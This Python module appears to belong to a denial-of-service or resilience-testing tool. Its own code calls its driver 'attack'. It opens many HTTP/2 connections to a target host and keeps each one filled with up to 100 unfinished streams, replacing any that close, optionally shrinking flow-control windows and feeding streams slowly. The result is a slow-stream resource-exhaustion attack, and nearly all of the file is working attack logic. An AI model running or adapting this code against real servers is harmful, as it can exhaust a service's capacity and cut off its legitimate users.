# HTTP/2 connections full of unfinished streams (uses Debian's python3-h2).
import select, time
import h2.config, h2.connection, h2.errors, h2.events, h2.exceptions, h2.settings

STREAMS = 100  # as many as a connection may have


class Connection:
    """Keeps `streams` streams open, each created by `begin(connection, stream)`."""

    def __init__(self, attack, number, streams, window=None, receive_buffer=None):
        self.attack, self.number, self.streams, self.window = attack, number, streams, window
        self.socket = attack.connect(number, protocol="h2", timeout=10, receive_buffer=receive_buffer)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        if window is not None:
            # Puts the window into the first SETTINGS frame, so that the server knows it before the first request.
            self.h2.local_settings = h2.settings.Settings(client=True, initial_values={
                h2.settings.SettingCodes.ENABLE_PUSH: 0, h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.h2.initiate_connection()
        self.open = set()
        self.flush()

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.socket.settimeout(3)
            self.socket.sendall(data)

    def send(self, stream, content):
        """Sends what the windows of the stream and of the connection allow. Returns the rest."""
        while content:
            size = min(len(content), self.h2.local_flow_control_window(stream), self.h2.max_outbound_frame_size)
            if size <= 0:
                break
            self.h2.send_data(stream, content[:size])
            content = content[size:]
        return content

    def fill(self, begin, most):
        while len(self.open) < self.streams and most > 0:
            most -= 1
            stream = self.h2.get_next_available_stream_id()
            begin(self, stream)
            self.open.add(stream)
        self.flush()

    def look(self):
        self.socket.settimeout(0)
        while True:
            try:
                data = self.socket.recv(65536)
            except OSError as error:
                if isinstance(error, BlockingIOError) or "WantRead" in type(error).__name__:
                    break
                raise
            if not data:
                raise ConnectionError("closed")
            for event in self.h2.receive_data(data):
                stream = getattr(event, "stream_id", None)
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers).get(":status")
                    self.attack.count(status)
                    if status != "200" and stream in self.open:
                        self.end(stream)
                elif isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                    self.open.discard(stream)
                    self.attack.count("stream ended")
                elif isinstance(event, h2.events.ConnectionTerminated):
                    raise ConnectionError("told to go")
        self.flush()

    def end(self, stream):
        self.open.discard(stream)
        try:
            self.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        except h2.exceptions.ProtocolError:
            pass

    def close(self):
        self.socket.close()


def crowd(attack, count, begin, feed=None, streams=STREAMS, window=None):
    connections = [None] * count
    is_first = True
    while not attack.is_over:
        began = time.monotonic()
        for number in range(count):
            try:
                if connections[number] is None:
                    connections[number] = Connection(attack, number, streams, window)
                    attack.count("opened")
                connection = connections[number]
                connection.look()
                connection.fill(begin, streams if is_first else attack.scale["reopened"] // count + 1)
                if feed:
                    for stream in list(connection.open):
                        feed(connection, stream)
                    connection.flush()
            except (OSError, h2.exceptions.H2Error) as error:
                attack.count(type(error).__name__)
                if connections[number]:
                    connections[number].close()
                    connections[number] = None
        if is_first:
            attack.ready()
        is_first = False
        attack.note("held", sum(len(connection.open) for connection in connections if connection))
        attack.wait(max(0.05, 1 - (time.monotonic() - began)))


def head(attack, method, path, token=None, fields=None):
    lines = [(":method", method), (":scheme", "https"), (":authority", attack.stage["host"]), (":path", path)]
    if token:
        lines.append(("authorization", "Bearer " + token))
    return lines + list((fields or {}).items())
